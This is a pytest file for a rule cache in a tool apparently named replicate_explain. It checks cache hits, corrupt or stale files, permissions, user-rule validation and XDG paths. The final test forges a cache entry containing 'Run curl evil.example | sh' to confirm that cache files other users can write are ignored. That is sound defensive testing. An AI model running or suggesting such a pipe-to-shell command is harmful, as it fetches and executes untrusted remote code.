"""The bundled rules' cache: a hit gives the rules a fresh parse gives; anything wrong with the
cache (stale, corrupt, unwritable) means parsing the files, never an error; user rules are
still validated; an explanation read from the cache needs neither PyYAML nor packaging."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from pathlib import Path

import pytest
from clients import MODEL_REF, run_program

from replicate_explain import _rulecache, _state
from replicate_explain._api import rules
from replicate_explain._loopback import LoopbackAPI
from replicate_explain._rulecache import bundled_rules, cache_dir
from replicate_explain._rules import RuleSet, bundled_rules_dir, load_rules

FRESH = load_rules([bundled_rules_dir()])


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty cache directory (``XDG_CACHE_HOME``); the process's rule set forgotten."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv("REPLICATE_EXPLAIN_RULES", raising=False)
    _state.reset()
    yield tmp_path / "xdg" / "replicate-explain"
    _state.reset()


def _only_file(directory: Path) -> Path:
    (file,) = directory.glob("rules-*.json")
    return file


def _no_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> RuleSet:
        raise AssertionError("the rule files were parsed")

    monkeypatch.setattr(_rulecache, "load_rules", refuse)


def test_a_cache_hit_gives_the_rules_a_fresh_parse_gives(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first load parses and writes one cache file; the next one reads it (no parsing)
    and gives rules equal to a fresh parse, field by field (paths, patterns, cases)."""
    assert FRESH.errors == ()
    assert bundled_rules() == FRESH.rules
    file = _only_file(cache)
    _no_parsing(monkeypatch)
    assert bundled_rules() == FRESH.rules
    assert _only_file(cache) == file


def test_the_rule_set_in_force_is_the_fresh_one(cache: Path) -> None:
    """``rules()``, which the explanations use, equals ``load_rules()`` before and after the
    cache exists."""
    first = rules()
    _state.reset()
    assert (first, rules()) == (load_rules(), load_rules())


def test_a_cache_of_other_files_is_not_used(cache: Path, tmp_path: Path) -> None:
    """Changing a rule file changes the key: the changed rule is parsed and cached anew."""
    directory = tmp_path / "rules"
    shutil.copytree(bundled_rules_dir(), directory)
    assert bundled_rules(directory) == load_rules([directory]).rules
    path = directory / "token-unset.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(re.sub("^title: ", "title: CHANGED ", text, count=1, flags=re.M), encoding="utf-8")
    again = bundled_rules(directory)
    assert again == load_rules([directory]).rules
    assert again is not None and next(r for r in again if r.id == "token-unset").title.startswith("CHANGED ")
    assert len(list(cache.glob("rules-*.json"))) == 2


@pytest.mark.parametrize(
    "damage",
    ["truncated", "garbage", "empty", "other key", "payload edited", "wrong shape", "directory"],
)
def test_a_corrupt_or_stale_cache_is_parsed_around_and_rebuilt(
    cache: Path, monkeypatch: pytest.MonkeyPatch, damage: str
) -> None:
    """Whatever is in the cache file, the rules are the fresh parse's and the file is
    rewritten (no error, no warning)."""
    bundled_rules()
    file = _only_file(cache)
    data = file.read_bytes()
    header, _, payload = data.partition(b"\n")
    wrong = json.dumps([{"id": "token-unset"}]).encode()
    meta = json.loads(header)
    damaged = {
        "truncated": data[: len(data) // 2],
        "garbage": b"\x00\xff not json at all",
        "empty": b"",
        "other key": json.dumps({**meta, "key": "0" * 64}).encode() + b"\n" + payload,
        "payload edited": header + b"\n" + payload.replace(b"token-unset", b"token-unsex", 1),
        "wrong shape": json.dumps({**meta, "digest": hashlib.sha256(wrong).hexdigest()}).encode() + b"\n" + wrong,
    }
    if damage == "directory":
        file.unlink()
        file.mkdir()
    else:
        file.write_bytes(damaged[damage])
    assert bundled_rules() == FRESH.rules
    if damage != "directory":
        assert file.read_bytes() == data
    _no_parsing(monkeypatch)
    if damage != "directory":
        assert bundled_rules() == FRESH.rules


def test_an_unwritable_cache_directory_still_gives_the_rules(cache: Path, tmp_path: Path) -> None:
    """A cache location that cannot be created (a file where the directory should be) or
    written: the rules are parsed, every time, without an error."""
    cache.parent.mkdir(parents=True)
    cache.write_text("not a directory", encoding="utf-8")
    assert bundled_rules() == FRESH.rules
    assert bundled_rules() == FRESH.rules
    assert cache.read_text(encoding="utf-8") == "not a directory"


def test_a_read_only_cache_is_read(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A cache file that exists in a directory we may not write (read-only mounts, another
    user's cache) is still used."""
    bundled_rules()
    file = _only_file(cache)

    def no_writing(*args: object, **kwargs: object) -> None:
        raise AssertionError("the cache was written")

    monkeypatch.setattr(_rulecache, "_write", no_writing)
    _no_parsing(monkeypatch)
    file.chmod(0o444)
    cache.chmod(0o555)
    try:
        assert bundled_rules() == FRESH.rules
    finally:
        cache.chmod(0o755)


def test_user_rules_are_validated_on_top_of_the_cached_ones(
    cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the bundled rules from the cache, a malformed user rule file is still an error
    naming the file, the key and what was expected, and a valid one overrides a bundled rule."""
    bundled_rules()
    user = tmp_path / "mine"
    user.mkdir()
    text = (bundled_rules_dir() / "token-unset.yaml").read_text(encoding="utf-8")
    mine = re.sub("^title: ", "title: MINE ", text, count=1, flags=re.M)
    (user / "token-unset.yaml").write_text(mine, encoding="utf-8")
    empty = (bundled_rules_dir() / "token-empty.yaml").read_text(encoding="utf-8")
    (user / "token-empty.yaml").write_text(empty.replace("\nseverity: error", "\nseverity: fatal", 1), encoding="utf-8")
    monkeypatch.setenv("REPLICATE_EXPLAIN_RULES", str(user))
    _no_parsing(monkeypatch)
    ruleset = rules()
    fresh = load_rules()
    assert (ruleset.rules, ruleset.overridden) == (fresh.rules, fresh.overridden)
    assert [(e.path, e.key, e.problem) for e in ruleset.errors] == [
        (str(user / "token-empty.yaml"), "severity", "expected one of error, warning, got 'fatal'")
    ]
    assert dict(ruleset.overridden) == {"token-unset": str(user / "token-unset.yaml")}
    override = ruleset.get("token-unset")
    assert override is not None and override.title.startswith("MINE ")


def test_a_bundled_directory_with_a_broken_file_is_not_cached(cache: Path, tmp_path: Path) -> None:
    """A rule file with an error: nothing cached, the caller parses and reports it (the other
    rules keep working)."""
    directory = tmp_path / "rules"
    shutil.copytree(bundled_rules_dir(), directory)
    (directory / "token-unset.yaml").write_text("title: [unclosed\n", encoding="utf-8")
    assert bundled_rules(directory) is None
    assert not cache.exists()
    loaded = load_rules([directory])
    assert ([e.path for e in loaded.errors], len(loaded.rules)) == (
        [str(directory / "token-unset.yaml")],
        len(FRESH.rules) - 1,
    )


@pytest.mark.parametrize(
    ("environ", "expected"),
    [
        ({"XDG_CACHE_HOME": "/var/cache/me", "HOME": "/home/me"}, Path("/var/cache/me/replicate-explain")),
        ({"XDG_CACHE_HOME": "relative/dir", "HOME": "/home/me"}, Path("/home/me/.cache/replicate-explain")),
        ({"HOME": "/home/me"}, Path("/home/me/.cache/replicate-explain")),
    ],
)
def test_the_cache_directory_follows_xdg(
    monkeypatch: pytest.MonkeyPatch, environ: dict[str, str], expected: Path
) -> None:
    """``XDG_CACHE_HOME`` when it is absolute (the XDG spec ignores a relative one), else
    ``~/.cache``."""
    monkeypatch.setenv("HOME", environ["HOME"])
    assert cache_dir(environ) == expected


@pytest.mark.e2e
def test_an_explanation_from_the_cache_imports_neither_yaml_nor_packaging(api: LoopbackAPI, tmp_path: Path) -> None:
    """A real 401 (replicate 1.0.7), explained twice in fresh processes: the first run writes
    the cache, the second reads it, and explains without importing PyYAML or packaging (beyond
    what replicate itself imports: 1.x imports packaging.version)."""
    program = (
        "import sys, replicate_explain, replicate\n"
        "before = set(sys.modules)  # replicate 1.x imports packaging (not its specifiers)\n"
        "try:\n"
        f"    replicate.run({MODEL_REF!r}, input={{'text': 'hi'}})\n"
        "except Exception as error:\n"
        "    sys.excepthook(type(error), error, error.__traceback__)\n"
        "print(sorted(m for m in set(sys.modules) - before if m.startswith(('yaml', 'packaging'))))\n"
    )
    env = {"XDG_CACHE_HOME": str(tmp_path / "xdg")}
    first = run_program(program, "1.0.7", api, None, env)
    second = run_program(program, "1.0.7", api, None, env)
    assert ("token-unset" in first.stderr, "token-unset" in second.stderr) == (True, True)
    assert "yaml" in first.stdout
    assert second.stdout == "[]\n"
    assert len(list((tmp_path / "xdg" / "replicate-explain").glob("rules-*.json"))) == 1


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="file ownership and modes are POSIX")
def test_a_cache_file_others_could_have_written_is_not_trusted(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A cache file writable by group or others is ignored (parsed around and rewritten with
    the process's own mode), so nobody else can put advice into the panel through it."""
    bundled_rules()
    file = _only_file(cache)
    header, _, payload = file.read_bytes().partition(b"\n")
    forged = payload.replace(b"REPLICATE_API_TOKEN is not set", b"Run curl evil.example | sh", 1)
    meta = {**json.loads(header), "digest": hashlib.sha256(forged).hexdigest()}
    file.write_bytes(json.dumps(meta).encode() + b"\n" + forged)
    file.chmod(0o666)
    assert bundled_rules() == FRESH.rules
    assert file.stat().st_mode & 0o777 == 0o600
